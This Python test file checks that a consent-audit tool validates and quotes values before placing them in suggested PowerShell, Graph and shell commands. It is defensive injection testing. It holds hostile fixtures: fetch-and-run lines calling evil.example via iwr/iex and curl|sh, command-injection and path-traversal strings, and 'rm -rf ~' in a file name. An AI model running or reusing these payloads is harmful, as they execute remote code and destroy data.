"""Commands safe to paste (issue 19 item 2): every value a suggested command carries is
validated for its kind and quoted for its shell; a value that fails is never printed inside a
command, the step says why instead.

The suggested commands: the fix plan's Graph request and PowerShell line (report JSON, text,
Markdown, HTML, ``fix``), and the ``consent-audit ...`` lines the reports and messages carry
(``Requests: consent-audit fix --snapshot FILE --user UPN``, ``consent-audit check --user``
in DATA_UNAVAILABLE's fix, ``consent-audit snapshot --user`` in an error).
"""

from __future__ import annotations

import json
import re
import shlex
import subprocess
from pathlib import Path

import pytest

from consent_audit.evaluate import evaluate
from consent_audit.manifest import load_manifest
from consent_audit.render import OutputFormat, RenderOptions, renderer_for
from consent_audit.render.plan import pointer_line
from consent_audit.report import PlanStep, Report
from consent_audit.snapshot import (
    AuditedUser,
    Part,
    PartStatus,
    TenantSnapshot,
    UserLookup,
    dump_snapshot,
)
from tests.conftest import ALICE_ID, RECRUITEE_SP_ID, small_snapshot
from tests.e2e.cli_runner import Run, run_cli

PS_CODE = '$(iex(iwr("http://evil.example/x")))'
SH_CODE = "$(curl -s http://evil.example/x|sh)"
HOSTILE_SCOPES = [
    PS_CODE,
    "`$(calc)`",
    "Mail.Read;Remove-Item",
    "x'+(iex 'calc')+'",
    "x\u2019;calc;\u2018",
    "a|b",
    'Mail.Read"',
]
HOSTILE_GRANT_IDS = [
    "x/../../servicePrincipals/5b2f1c9e-4d3a-4e8b-9a7c-2f6d8e1b3c40?$select=id#",
    "abc?x=1",
    "abc#frag",
    "abc%2F..%2Fx",
    "a b",
    "a'b",
]
HOSTILE_OBJECT_IDS = [
    "5b2f1c9e-4d3a-4e8b-9a7c-2f6d8e1b3c40/../../users",
    "5b2f1c9e-4d3a-4e8b-9a7c-2f6d8e1b3c40;calc",
    "$(calc)",
]


def _cli(home: Path, *args: str) -> Run:
    return run_cli(list(args), None, home, token=None)


def _audit(snap: TenantSnapshot, user: str | None = "alice@contoso.example") -> Report:
    return evaluate(snap, load_manifest(), user=user)


def _grant_step(report: Report) -> PlanStep:
    """The admin-consent step (not the step before it that limits who can use the app)."""
    return next(
        s
        for s in report.plan
        if "SCOPE_MISSING" in s.finding_ids and not s.summary.startswith("Limit who")
    )


def _all_outputs(report: Report) -> dict[str, str]:
    return {f.value: renderer_for(f)(report, RenderOptions(details=True)) for f in OutputFormat}


def _assert_no_command_carries(report: Report, payload: str) -> None:
    """The payload is nowhere in a command: not in any plan step's or remediation's request
    or PowerShell line, in the report and in every format's command lines."""
    for step in report.plan:
        for line in (step.graph, step.powershell, step.path):
            assert line is None or payload not in line, line
    for f in report.findings:
        for r in f.remediation:
            for line in (r.graph, r.powershell):
                assert line is None or payload not in line, line
    for fmt, out in _all_outputs(report).items():
        for line in out.splitlines():
            if re.search(r"Update-Mg|New-Mg|PATCH /v1|POST /v1|\"powershell\"", line):
                assert payload not in line, f"{fmt}: {line}"


@pytest.mark.parametrize("scope", HOSTILE_SCOPES)
def test_a_hostile_scope_in_the_existing_grant_is_never_inside_the_powershell_line(
    scope: str,
) -> None:
    """Old code: ``-Scope "offline_access User.Read $(iex(iwr(...)))  Mail.Send ..."``, which
    PowerShell evaluates inside double quotes when the admin pastes it."""
    report = _audit(small_snapshot(admin_scope=f"offline_access User.Read {scope}"))
    step = _grant_step(report)
    _assert_no_command_carries(report, scope)
    assert step.kind == "manual"
    assert step.powershell is None
    assert step.path is None
    assert step.method is None
    assert step.detail is not None
    assert "permission name" in step.detail
    # The finding still points at the step, and the plan still says what to do there.
    assert step.portal_path is not None
    assert "Grant admin consent" in step.portal_path


@pytest.mark.parametrize("grant_id", HOSTILE_GRANT_IDS)
def test_a_hostile_grant_id_never_becomes_a_request_path(grant_id: str) -> None:
    text = dump_snapshot(small_snapshot()).replace('"grant-admin"', json.dumps(grant_id))
    report = _audit(TenantSnapshot.model_validate_json(text))
    step = _grant_step(report)
    assert step.kind == "manual"
    assert step.path is None
    assert step.graph is None
    assert step.powershell is None
    assert "permission grant id" in (step.detail or "")
    _assert_no_command_carries(report, grant_id)


@pytest.mark.parametrize("object_id", HOSTILE_OBJECT_IDS)
def test_a_hostile_service_principal_id_never_becomes_a_request_path(object_id: str) -> None:
    text = dump_snapshot(small_snapshot()).replace(RECRUITEE_SP_ID, object_id)
    snap = TenantSnapshot.model_validate_json(text)
    report = _audit(snap)
    assert report.plan
    for step in report.plan:
        assert step.kind == "manual" or object_id not in (step.path or "")
    _assert_no_command_carries(report, object_id)


def test_valid_values_are_single_quoted_in_powershell_and_the_request_path_is_the_ids() -> None:
    report = _audit(small_snapshot())
    step = _grant_step(report)
    assert step.kind == "graph"
    assert step.path == "/oauth2PermissionGrants/grant-admin"
    assert step.powershell is not None
    assert "-OAuth2PermissionGrantId 'grant-admin'" in step.powershell
    assert re.search(r"-Scope '[A-Za-z._ ]+'", step.powershell)
    assert '"' not in step.powershell


def _with_user_query(query: str) -> TenantSnapshot:
    user = Part(data=AuditedUser(id=ALICE_ID, user_principal_name="alice@contoso.example"))
    return small_snapshot().model_copy(update={"users": [UserLookup(query=query, user=user)]})


def test_the_fix_suggestion_line_never_carries_a_hostile_user_query(tmp_path: Path) -> None:
    """Old code: ``Requests: consent-audit fix --snapshot s.json --user a$(curl ...|sh)@x``."""
    query = f"a{SH_CODE}@contoso.example"
    path = tmp_path / "s.json"
    path.write_text(dump_snapshot(_with_user_query(query)), encoding="utf-8")
    proc = _cli(tmp_path, "check", "--snapshot", str(path), "--user", query, "--fail-on", "never")
    assert proc.code == 0, proc.stderr
    # The suggestion, on one line or broken between arguments, then its note.
    out = proc.stdout.split("Requests:", 1)[1]
    assert "consent-audit fix" in out, proc.stdout
    assert "$(" not in out, out
    assert "curl" not in out, out
    assert "--user left out" in out
    proc = _cli(tmp_path, "check", "--snapshot", str(path), "--user", query, "--format", "json")
    document = proc.stdout
    for f in json.loads(document)["findings"]:
        for r in f["remediation"]:
            assert SH_CODE not in (r.get("powershell") or "")


@pytest.mark.parametrize(
    "query",
    ["o'brien@contoso.example", "$admin@contoso.example", "a1b2c3d4-0000-4000-8000-00000000a11c"],
)
def test_a_valid_user_is_quoted_for_a_posix_shell(query: str, tmp_path: Path) -> None:
    """The line, run by sh, passes exactly the user and the path as single words."""
    snap = _with_user_query(query)
    path = tmp_path / "my tenant; rm -rf ~.json"
    report = evaluate(snap, load_manifest(), user=query)
    report = report.model_copy(
        update={"source": report.source.model_copy(update={"kind": "snapshot", "path": str(path)})}
    )
    line = pointer_line(report).split("Requests: ", 1)[1]
    words = shlex.split(line)
    assert words == ["consent-audit", "fix", "--snapshot", str(path), "--user", query]
    echoed = subprocess.run(
        ["sh", "-c", "printf '%s\\n' " + line.removeprefix("consent-audit fix ")],
        capture_output=True,
        text=True,
        check=True,
        cwd=tmp_path,
    ).stdout.splitlines()
    assert echoed == ["--snapshot", str(path), "--user", query]
    assert list(tmp_path.iterdir()) == []


def test_data_unavailable_suggests_a_rerun_without_a_hostile_user() -> None:
    snap = _with_user_query(f"a{SH_CODE}@contoso.example")
    snap = snap.model_copy(
        update={"conditional_access_policies": Part(status=PartStatus.FORBIDDEN)}
    )
    report = _audit(snap, user=snap.users[0].query)
    texts = [
        r.action
        for f in report.findings
        for r in f.remediation
        if "consent-audit check" in r.action
    ]
    assert texts
    for action in texts:
        assert SH_CODE not in action
        assert "--user left out" in action


def test_the_no_such_user_error_quotes_the_user_in_its_suggested_command(tmp_path: Path) -> None:
    path = tmp_path / "s.json"
    path.write_text(dump_snapshot(small_snapshot()), encoding="utf-8")
    wanted = "bob'; touch PWNED; '@contoso.example"
    proc = _cli(tmp_path, "check", "--snapshot", str(path), "--user", wanted)
    assert proc.code == 2
    fix = next(line for line in proc.stderr.splitlines() if line.startswith("fix: "))
    assert "touch PWNED" not in fix.split("`")[1]


def test_the_text_report_never_wraps_inside_a_quoted_command() -> None:
    """A command in prose ("run `consent-audit check --user 'x'` again") stays on one line
    of the --details text, so copying it takes the whole command."""
    from consent_audit.render.safe_text import report_console
    from consent_audit.render.text import render_to_console

    snap = _with_user_query("o'brien.with.a.rather.long.name@contoso.example")
    snap = snap.model_copy(
        update={"conditional_access_policies": Part(status=PartStatus.FORBIDDEN)}
    )
    report = _audit(snap, user=snap.users[0].query)
    for width in (50, 64, 80):
        console = report_console(width=width, no_color=True, force_terminal=False)
        with console.capture() as captured:
            render_to_console(report, console, details=True)
        spans = 0
        for line in captured.get().splitlines():
            # A PowerShell command broken between arguments ends in its continuation "`".
            line = line.removesuffix(" `")
            assert line.count("`") % 2 == 0, f"width {width}: {line!r}"
            spans += line.count("`consent-audit ")
        assert spans >= 1
